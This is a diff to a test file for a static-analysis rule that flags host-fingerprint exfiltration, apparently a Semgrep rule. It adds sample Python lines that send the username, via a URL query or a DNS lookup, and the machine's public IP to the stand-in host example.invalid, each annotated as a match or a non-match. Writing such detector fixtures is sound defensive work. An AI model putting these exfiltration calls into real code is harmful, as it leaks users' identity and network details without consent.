@@ -3,6 +3,7 @@ import getpass
 import os
 import platform
 import socket
+import urllib.request
 
 import requests
 
@@ -31,3 +32,15 @@ cache = os.path.join(os.getcwd(), ".cache")
 my_ip = socket.gethostbyname(socket.gethostname())
 # ruleid: host-fingerprint-exfil
 socket.gethostbyname(getpass.getuser() + ".example.invalid")
+
+who = os.environ.get("username", "")
+# ruleid: host-fingerprint-exfil
+urllib.request.urlopen("https://example.invalid/w?u=" + who)
+
+path_var = os.environ["PATH"]
+# ok: host-fingerprint-exfil
+requests.post("https://example.invalid/p", data=path_var)
+
+pub = urllib.request.urlopen("https://ipinfo.io/ip").read()
+# ruleid: host-fingerprint-exfil
+requests.post("https://example.invalid/ip", data=pub)
